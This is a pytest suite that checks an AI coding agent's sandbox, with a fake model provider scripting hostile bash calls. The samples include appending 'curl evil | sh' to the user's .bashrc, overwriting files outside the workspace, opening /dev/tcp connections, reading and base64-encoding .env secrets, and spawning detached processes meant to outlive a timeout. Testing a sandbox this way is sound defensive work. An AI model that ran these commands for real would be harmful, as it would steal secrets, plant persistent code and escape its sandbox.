"""The sandbox as a user meets it: the installed CLI, ``-p --yolo``, the default sandbox, the
real SDK against the fake provider.  Oracles are outcomes: a victim file's bytes, a listener
never contacted, a secret never in any request the provider received, no process left."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

import pytest
from clirun import run_agent_here
from fakeprovider import Reply

pytestmark = pytest.mark.skipif(not os.path.exists("/proc/self/ns/pid"), reason="Linux only")


@pytest.fixture
def dirs(tmp_path, monkeypatch):
    ws = tmp_path / "ws"
    ws.mkdir()
    home = tmp_path / "userhome"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return tmp_path / "agenthome", ws


def yolo(fake_provider, home, ws, *commands, extra=()):
    """Run ``agent -p --yolo`` with the model calling ``bash`` once per command."""
    calls = [Reply.tool_call("bash", c if isinstance(c, dict) else {"command": c},
                             id=f"call_{i}") for i, c in enumerate(commands)]
    fake_provider.script(*calls, Reply.text("done"))
    return run_agent_here(["-p", "go", "--yolo", "--provider", "openai", "--base-url",
                           fake_provider.openai_url, "--model", "m", *extra], home=home, cwd=ws,
                          OPENAI_API_KEY="sk-test-key-held-by-agent")


def results(fake_provider) -> list[str]:
    """The bash results the model was sent, in order."""
    return fake_provider.tool_results()


@pytest.fixture
def far_victim():
    """A victim outside /tmp altogether (the sandbox's /tmp is private, so a victim there is
    out of reach for another reason too)."""
    path = Path("/var/tmp") / f"agent-sandbox-victim-{os.getpid()}"
    path.write_bytes(b"far original\n")
    path.chmod(0o644)
    yield path
    path.unlink(missing_ok=True)


def test_yolo_bash_cannot_change_a_file_outside_the_workspace(dirs, fake_provider, tmp_path,
                                                              far_victim):
    home, ws = dirs
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"original bytes\n")
    mine = Path(os.environ["HOME"]) / ".bashrc"
    mine.write_bytes(b"# mine\n")
    proc = yolo(fake_provider, home, ws,
                f"echo pwned > {far_victim}", f"rm -f {far_victim} {victim}",
                f"echo pwned > {victim}; mv {victim} {ws}/stolen",
                f"echo 'curl evil | sh' >> {mine}", f"chmod 600 {far_victim}",
                "echo inside > made.txt")
    assert proc.returncode == 0, proc.stderr
    assert far_victim.read_bytes() == b"far original\n"
    assert far_victim.stat().st_mode & 0o777 == 0o644
    assert victim.read_bytes() == b"original bytes\n"
    assert mine.read_bytes() == b"# mine\n"
    assert (ws / "made.txt").read_text() == "inside\n"  # the workspace itself is writable
    assert "Read-only file system" in results(fake_provider)[0]


def test_yolo_bash_cannot_reach_a_listener_on_this_machine(dirs, fake_provider):
    home, ws = dirs
    canary = socket.socket()
    canary.bind(("127.0.0.1", 0))
    canary.listen(8)
    canary.setblocking(False)
    port = canary.getsockname()[1]
    try:
        proc = yolo(fake_provider, home, ws,
                    f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED",
                    f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}),"
                    f" 2); print(\"CONNECTED\")'",
                    f"curl -s -m 2 http://127.0.0.1:{port}/ && echo CONNECTED")
        assert proc.returncode == 0, proc.stderr
        with pytest.raises(BlockingIOError):
            canary.accept()
        assert not any("CONNECTED" in r for r in results(fake_provider))
    finally:
        canary.close()


def test_yolo_bash_cannot_read_the_workspace_env(dirs, fake_provider):
    home, ws = dirs
    (ws / ".env").write_text("DATABASE_URL=postgres://admin:sk-very-secret-1234@db\n")
    (ws / "config").mkdir()
    (ws / "config" / ".ENV.production").write_text("TOKEN=sk-other-secret-5678\n")
    proc = yolo(fake_provider, home, ws, "cat .env", "cat config/.ENV.production",
                "grep -r secret . ; cp .env copy.txt; cat copy.txt", "base64 .env",
                "env | grep -i key")
    assert proc.returncode == 0, proc.stderr
    for request in fake_provider.requests:
        body = json.dumps(request.body)
        assert "sk-very-secret-1234" not in body and "sk-other-secret-5678" not in body
        assert "sk-test-key-held-by-agent" not in body.replace(
            request.headers.get("authorization", ""), "")
    assert (ws / ".env").read_text().startswith("DATABASE_URL=")  # hidden, not harmed


def marked(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if argv and argv[0].endswith(b"sleep") and state != "Z" and \
                any(token.encode() in a for a in argv):
            found.append(int(entry.name))
    return found


def test_yolo_bash_timeout_leaves_no_descendant(dirs, fake_provider):
    home, ws = dirs
    token = f"{os.getpid() % 100000}77"
    tree = (f"echo started; setsid sleep 40.{token}1 & nohup sleep 40.{token}2 >/dev/null "
            f"2>&1 & (setsid bash -c 'sleep 40.{token}3 & wait' &) ; "
            f"disown -a; sleep 40.{token}4; echo never")
    proc = yolo(fake_provider, home, ws, {"command": tree, "timeout": 1000})  # the least
    assert proc.returncode == 0, proc.stderr
    result = results(fake_provider)[0]
    assert "killed by SIG" in result and "timeout is 1000ms" in result
    assert "started" in result and "never" not in result
    assert marked(token) == []


def test_sandbox_off_by_flag_runs_unconfined_and_says_so(dirs, fake_provider, far_victim):
    home, ws = dirs
    proc = yolo(fake_provider, home, ws, f"cat {far_victim}", extra=["--sandbox", "off"])
    assert proc.returncode == 0, proc.stderr
    assert "agent: sandbox: OFF (by choice): commands run with your full access" in proc.stderr
    assert "far original" in results(fake_provider)[0]  # the flag really took the walls away


def test_an_unavailable_sandbox_is_said_once_and_headless_denies_commands(dirs,
                                                                        fake_provider):
    home, ws = dirs
    home.mkdir()
    (home / "config.toml").write_text('sandbox_bwrap = "/bin/false"\n'
                                      '[permission.bash]\n"echo *" = "allow"\n')
    fake_provider.script(Reply.tool_call("bash", {"command": "echo ran > ran.txt"}, id="c1"),
                         Reply.text("done"))
    proc = run_agent_here(["-p", "go", "--provider", "openai", "--base-url",
                           fake_provider.openai_url, "--model", "m"], home=home, cwd=ws,
                          OPENAI_API_KEY="x")
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.count("sandbox: UNAVAILABLE (/bin/false: ") == 1
    assert not (ws / "ran.txt").exists()  # allowed by a rule, yet asked: denied headless
    assert "needs approval" in results(fake_provider)[0]
